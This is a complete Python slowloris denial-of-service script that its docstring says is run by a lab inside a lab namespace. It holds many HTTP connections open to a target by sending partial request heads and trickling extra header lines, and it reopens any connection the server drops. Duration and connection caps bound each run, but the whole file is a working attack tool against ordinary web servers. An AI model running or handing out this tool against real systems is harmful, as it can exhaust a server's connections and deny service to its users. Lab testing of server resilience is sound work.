#!/usr/bin/python3
"""Holds CONNECTIONS slow HTTP connections from SOURCE to ADDRESS:PORT, as a slowloris client
does: each sends part of a request head, then one more header line every INTERVAL seconds, and
never the empty line that would end the head. Each round, a connection the server closed is
opened again.

Prints "holding N" once the first CONNECTIONS connections are made (N of them connected), then
"round R connected C reopened X" after each round. Stops by itself after DURATION seconds, or at
SIGTERM. At most CONNECTIONS connections a round, for at most DURATION / INTERVAL rounds.

Run by the lab inside a lab namespace; it connects only to ADDRESS.

    slowloris.py SOURCE ADDRESS PORT CONNECTIONS INTERVAL DURATION
"""

import socket
import sys
import time

PARTIAL_HEAD = b"GET /metrics HTTP/1.1\r\nHost: egret\r\nUser-Agent: slowloris\r\n"
MORE_HEAD = b"X-Slow: a\r\n"


def connect(source, address, port):
    """A new connection with a partial head sent, or None when it could not be made."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind((source, 0))
    sock.settimeout(2)
    try:
        sock.connect((address, port))
        sock.sendall(PARTIAL_HEAD)
    except OSError:
        sock.close()
        return None
    sock.setblocking(False)
    return sock


def still_open(sock):
    """Whether the server has not closed the connection (it never sends anything else)."""
    try:
        return sock.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def main():
    source, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    count, interval, duration = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    deadline = time.monotonic() + duration
    socks = [connect(source, address, port) for _ in range(count)]
    print(f"holding {sum(s is not None for s in socks)}", flush=True)
    rounds = 0
    while time.monotonic() + interval < deadline:
        time.sleep(interval)
        rounds += 1
        reopened = 0
        for i, sock in enumerate(socks):
            if sock is not None and still_open(sock):
                try:
                    sock.send(MORE_HEAD)
                    continue
                except OSError:
                    pass
            if sock is not None:
                sock.close()
            socks[i] = connect(source, address, port)
            reopened += 1
        connected = sum(s is not None for s in socks)
        print(f"round {rounds} connected {connected} reopened {reopened}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
